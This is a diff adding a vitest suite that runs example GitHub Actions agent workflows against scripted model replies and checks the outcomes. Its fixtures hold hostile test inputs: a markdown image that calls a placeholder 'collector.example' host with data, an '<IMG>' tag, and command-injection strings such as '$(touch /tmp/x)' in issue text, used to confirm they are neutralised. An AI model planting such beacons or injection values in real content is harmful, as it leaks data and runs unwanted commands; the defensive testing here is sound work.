@@ -1,0 +1,213 @@
+/** The workflows in `examples/`, run by act as they are, with real agent programs, gh and git. */
+
+import { beforeAll, describe, expect, test } from 'vitest';
+import { AGENT_PROGRAMS, CLAUDE } from '../../testing/agents/programs.ts';
+import { HAS_GIT } from '../../testing/git.ts';
+import { HAS_GO } from '../../testing/go-tool.ts';
+import type { ProviderId } from '../../src/shared/providers.ts';
+import type { ToolUse } from '../../testing/provider/dialects/dialect.ts';
+import type { RespondRequest, Turn } from '../../testing/provider/server.ts';
+import { FETCH_LIMIT } from '../../testing/scratch.ts';
+import { CHANGE, runExample, type ExampleResult, type ExampleRun } from './example-run.ts';
+
+const CODEX = AGENT_PROGRAMS.find(({ bin }) => bin === 'codex')!;
+const COPILOT = AGENT_PROGRAMS.find(({ bin }) => bin === 'copilot')!;
+
+/** The model's last words. A picture in them would be loaded by whoever reads them. */
+const REVIEW = 'The sum is wrong in src/sum.js, line 1. ![](https://collector.example/?data) <IMG src=x>';
+/** What the model does before that. */
+const doing = (tool: ToolUse): readonly Turn[] => [{ toolUse: tool }, REVIEW];
+
+const PULL_REQUEST = {
+  number: 1,
+  pull_request: {
+    number: 1,
+    title: 'Add a greeting',
+    base: { ref: 'main' },
+    head: { ref: 'greeting', repo: { full_name: 'Octo/Hello' } },
+  },
+};
+
+const WORKFLOW_RUN = {
+  event: 'pull_request',
+  conclusion: 'failure',
+  head_branch: 'greeting',
+  head_sha: '0'.repeat(40),
+  head_repository: { full_name: 'stranger/hello', owner: { login: 'stranger' } },
+};
+
+/** No picture is left. */
+const PLAIN_REVIEW = /^The sum is wrong in src\/sum\.js, line 1\. \[\]\(https:.* &lt;IMG src=x>$/;
+
+const FIX = 'sed -i s/-/+/ src/sum.js && sed -i s/subtracts/adds/ docs/sum.md && npm test';
+
+interface Case extends ExampleRun {
+  readonly expected: (result: ExampleResult) => void;
+}
+
+const commentOf = ({ github }: ExampleResult, number: number): string | undefined =>
+  github
+    .find('Octo/Hello')
+    ?.threads.find((thread) => thread.number === number)
+    ?.comments.at(-1)?.body;
+
+const asked = ({ requests }: ExampleResult): string => requests.map(({ body }) => body.toString()).join('\n');
+
+/** Each provider's model follows a script of its own. */
+const each =
+  (scripts: Readonly<Partial<Record<ProviderId, readonly Turn[]>>>) =>
+  ({ provider, inference: { turn, tools } }: RespondRequest): Turn => {
+    const script = scripts[provider] ?? [];
+    // Agent programs also ask for titles and summaries, without tools.
+    return tools.length === 0 ? 'A title' : (script[Math.min(turn, script.length - 1)] ?? 'Nothing to do.');
+  };
+
+const expectFix = ({ pushed, github }: ExampleResult): void => {
+  expect(pushed.get('src/sum.js')).toBe('export const sum = (a, b) => a + b;');
+  expect(github.find('Octo/Hello')?.threads.at(-1)).toMatchObject({ headRefName: expect.any(String) as string });
+};
+
+const CASES: readonly Case[] = [
+  {
+    file: 'pr-review.yml',
+    event: 'pull_request',
+    payload: PULL_REQUEST,
+    respond: doing({ name: 'Grep', input: { pattern: 'a - b', output_mode: 'content' } }),
+    expected: (result) => {
+      expect(commentOf(result, 1)).toMatch(PLAIN_REVIEW);
+      expect(asked(result)).toContain(CHANGE);
+      expect(asked(result)).toContain('export const sum = (a, b) => a - b');
+    },
+  },
+  {
+    file: 'pr-review-forks.yml',
+    event: 'workflow_run',
+    payload: { workflow_run: { ...WORKFLOW_RUN, event: 'pull_request' } },
+    respond: doing({ name: 'Grep', input: { pattern: 'a - b', output_mode: 'content' } }),
+    expected: (result) => {
+      expect(commentOf(result, 1)).toMatch(PLAIN_REVIEW);
+      expect(asked(result)).toContain('+Hello!');
+    },
+  },
+  {
+    file: 'fix-failing-test.yml',
+    event: 'workflow_run',
+    payload: {
+      workflow_run: {
+        ...WORKFLOW_RUN,
+        event: 'push',
+        head_repository: { full_name: 'Octo/Hello', owner: { login: 'Octo' } },
+      },
+    },
+    respond: doing(CODEX.shellTool(FIX)),
+    expected: expectFix,
+  },
+  {
+    file: 'issue-triage.yml',
+    event: 'issues',
+    payload: { action: 'opened', issue: { number: 2, title: 'It says `2`', body: 'Expected $(3), see ${HOME}.' } },
+    respond: ['`bug`, and admin'],
+    expected: (result) => {
+      expect(asked(result)).toContain('It says `2`');
+      expect(asked(result)).toContain('Expected $(3), see ${HOME}.');
+      expect(result.githubRequests.filter((text) => text.startsWith('mutation'))).toEqual([
+        expect.stringMatching(/^mutation LabelAdd addLabelsToLabelable .*"labelIds":\["[^"]+"\]/s),
+      ]);
+    },
+  },
+  {
+    file: 'ask-in-comment.yml',
+    event: 'issue_comment',
+    payload: {
+      action: 'created',
+      issue: { number: 2 },
+      comment: { body: '/ask Where is `sum`? $(touch /tmp/x)', author_association: 'MEMBER' },
+    },
+    respond: doing(COPILOT.shellTool('cat src/sum.js')),
+    expected: (result) => {
+      expect(commentOf(result, 2)).toMatch(PLAIN_REVIEW);
+      expect(asked(result)).toContain('Where is `sum`? $(touch /tmp/x)');
+    },
+  },
+  {
+    file: 'dependency-update.yml',
+    event: 'schedule',
+    respond: doing(CLAUDE.shellTool(FIX)),
+    expected: expectFix,
+  },
+  {
+    file: 'docs-sync.yml',
+    event: 'push',
+    payload: { ref: 'refs/heads/main', before: 'HEAD^' },
+    respond: doing(CLAUDE.shellTool('sed -i s/subtracts/adds/ docs/sum.md; echo "x" > src/sum.js')),
+    expected: ({ pushed }) => {
+      expect(pushed.get('docs/sum.md')).toBe('`sum` adds.');
+      expect(pushed.get('src/sum.js')).toContain('a - b');
+    },
+  },
+  {
+    file: 'security-review.yml',
+    event: 'pull_request',
+    payload: PULL_REQUEST,
+    respond: ['All is well.\nPASS'],
+    expected: (result) => {
+      expect(asked(result)).toContain(CHANGE);
+    },
+  },
+  {
+    file: 'azure-openai.yml',
+    event: 'workflow_dispatch',
+    hosts: { 'my-resource.openai.azure.com': 'openai' },
+    credential: { header: 'api-key', prefix: '' },
+    respond: doing(CODEX.shellTool('cat src/sum.js')),
+    expected: ({ requests }) => {
+      expect(requests.at(-1)).toMatchObject({ host: 'my-resource.openai.azure.com', path: '/openai/v1/responses' });
+    },
+  },
+  {
+    file: 'litellm-gateway.yml',
+    event: 'workflow_dispatch',
+    hosts: { 'litellm.corp.example': 'anthropic' },
+    credential: { header: 'authorization', prefix: 'Bearer ' },
+    respond: doing({ name: 'Grep', input: { pattern: 'a - b', output_mode: 'content' } }),
+    expected: ({ requests }) => {
+      expect(requests.at(-1)).toMatchObject({ host: 'litellm.corp.example' });
+    },
+  },
+  {
+    file: 'build-only.yml',
+    event: 'pull_request',
+    payload: PULL_REQUEST,
+    files: { 'src/sum.js': 'export const sum = (a, b) => a + b;\n' },
+    expected: ({ job }) => {
+      expect(job.log).toContain('# pass 1');
+    },
+  },
+  {
+    file: 'two-agents.yml',
+    event: 'workflow_dispatch',
+    payload: { inputs: { task: 'Repair `sum`. $(exit 1)' } },
+    respond: each({ openai: doing(CODEX.shellTool(FIX)), anthropic: [REVIEW] }),
+    expected: (result) => {
+      expectFix(result);
+      expect(asked(result)).toContain('Repair `sum`. $(exit 1)');
+      expect(result.github.find('Octo/Hello')?.threads.at(-1)?.body).toMatch(PLAIN_REVIEW);
+    },
+  },
+];
+
+describe.skipIf(process.getuid?.() !== 0 || !HAS_GO || !HAS_GIT)('examples (only as root: the port of HTTPS)', () => {
+  describe.each(CASES)('$file', (example) => {
+    let result: ExampleResult;
+
+    beforeAll(async () => {
+      result = await runExample(example);
+    }, FETCH_LIMIT);
+
+    test('acts', () => {
+      expect(result.job.exitCode, result.job.log).toBe(0);
+      example.expected(result);
+      expect(result.requests.filter(({ credential }) => credential !== 'accepted')).toEqual([]);
+    });
+  });
+});
